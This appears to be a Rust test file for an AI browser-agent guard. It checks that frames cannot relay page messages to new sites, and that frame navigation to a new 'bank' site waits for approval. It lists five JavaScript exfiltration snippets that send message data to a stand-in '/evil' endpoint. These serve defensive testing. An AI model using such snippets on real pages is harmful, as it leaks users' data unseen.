//! What a touched page can speak to in its own tab sends nothing for it to a site that is new, told by what
//! that site saw.

use crate::hold;
use crate::support::{LONG, Page, World, done};
use reins_core::{Action, HeldKind, HeldRequest};

fn home(world: &World) -> Action {
    Action::Navigate { tab: world.tab.clone(), url: world.site.url("/") }
}

/// A page on `host` of the same server.
fn on(world: &World, host: &str, path: &str) -> String {
    format!("http://{host}:{}{path}", world.site.port())
}

/// Ways in which a frame that got a word from the page sends it on.
const WAYS: &[&str] = &[
    "new Image().src=E",
    "fetch(E,{mode:'no-cors',method:'POST',body:event.data})",
    "navigator.sendBeacon(E,event.data)",
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"'+E+'\",{mode:\"no-cors\"})'])))",
    "let i=document.createElement('iframe');i.srcdoc='<img src='+E+'>';document.body.append(i)",
];

fn relay(way: &str) -> Page {
    Page::html(&format!(
        "<p>Frame</p><script>const E='http://localhost:'+location.port+'/evil?x';onmessage=event=>{{{way}}}</script>"
    ))
}

/// a frame of a site that the page knows, and the page around a frame that is clicked, send nothing on.
#[tokio::test]
async fn r221_what_a_touched_page_speaks_to_sends_nothing_to_a_site_that_is_new() {
    let world = World::start([("/evil", Page::html("evil"))]).await;
    let press =
        |to: &str| format!("<button onclick=\"{to}.postMessage('word','*')\">Press</button>");
    for way in WAYS {
        let frame = on(&world, "known.localhost", "/relay");
        world.site.set("/relay", relay(way));
        let page = format!("{}<iframe src='{frame}'></iframe>", press("frames[0]"));
        world.site.set("/", Page::html(&page));
        done(&world.act_guarded(home(&world)).await);
        let inside = world.click_guarded("Press").await;
        done(&inside);
        world.page_waits(300).await;
        world.site.set(
            "/",
            Page::html(&format!(
                "<iframe src='{}'></iframe><script>const E='http://localhost:'+location.port+'/evil?x';onmessage=event=>{{{way}}}</script>",
                on(&world, "known.localhost", "/button")
            )),
        );
        world.site.set("/button", Page::html(&press("parent")));
        done(&world.act_guarded(home(&world)).await);
        let around = world.click_guarded("Press").await;
        done(&around);
        world.page_waits(300).await;
        assert_eq!(world.arrived("evil"), Vec::<String>::new(), "{way} {inside:?} {around:?}");
    }
}

/// Such a frame goes on with what it and its page knew. Pages of sites that are new wait for the person: a payment
/// frame shows the one of the bank, and nothing that the page told it goes anywhere unseen.
#[tokio::test]
async fn r221_frames_keep_what_they_knew_and_ask_before_they_show_what_is_new() {
    let world = World::start([("/known", Page::html("known"))]).await;
    let rounds = [("inside", true), ("inside", false), ("itself", true), ("itself", false)];
    for (number, (way, agrees)) in rounds.into_iter().enumerate() {
        let path = format!("/bank-{number}");
        world.site.set(&path, Page::html("bank"));
        let asked = frame_to_the_bank(&world, way, &path).await;
        assert!(asked.url.contains("bank.localhost") && asked.kind == HeldKind::Frame, "{asked:?}");
        assert_eq!(world.arrived(&path), Vec::<String>::new(), "{way}");
        if agrees {
            done(&hold::allow(&world, &[asked]).await);
            assert!(world.site.wait_for(LONG, |seen| seen.path == path).await, "{way}");
        } else {
            done(&hold::deny(&world, &[asked]).await);
            world.page_waits(300).await;
            assert_eq!(world.arrived(&path), Vec::<String>::new(), "{way}");
        }
    }
}

/// A press tells the payment frame to show the bank's page. What waits then, after all that was known has arrived.
async fn frame_to_the_bank(world: &World, way: &str, path: &str) -> HeldRequest {
    let bank = on(world, "bank.localhost", path);
    let show = match way {
        "inside" => format!(
            "const i=document.createElement('iframe');i.src='{bank}';document.body.append(i)"
        ),
        _ => format!("setTimeout(()=>location='{bank}',300)"),
    };
    let frame = format!(
        "<p>Frame</p><img src='/known?frame' alt=''><script>onmessage=()=>{{\
         fetch('http://known.localhost:'+location.port+'/known?own',{{mode:'no-cors'}});\
         fetch('http://127.0.0.1:'+location.port+'/known?page',{{mode:'no-cors'}});\
         {show}}}</script>"
    );
    world.site.set("/frame", Page::html(&frame));
    let page = format!(
        "<button onclick=\"frames[0].postMessage('word','*')\">Press</button><iframe src='{}'></iframe>",
        on(world, "known.localhost", "/frame")
    );
    world.site.set("/", Page::html(&page));
    done(&world.act_guarded(home(world)).await);
    let mut acted = world.click_guarded("Press").await;
    assert_eq!(done(&acted).refused, Vec::<String>::new());
    for path in ["/known?own", "/known?page"] {
        assert!(world.site.wait_for(LONG, |seen| seen.path == path).await, "{path}");
    }
    let limit = tokio::time::Instant::now() + LONG;
    while done(&acted).held.is_empty() && tokio::time::Instant::now() < limit {
        acted = hold::deny(world, &[]).await;
    }
    let [asked] = done(&acted).held.as_slice() else { panic!("{acted:?}") };
    asked.clone()
}
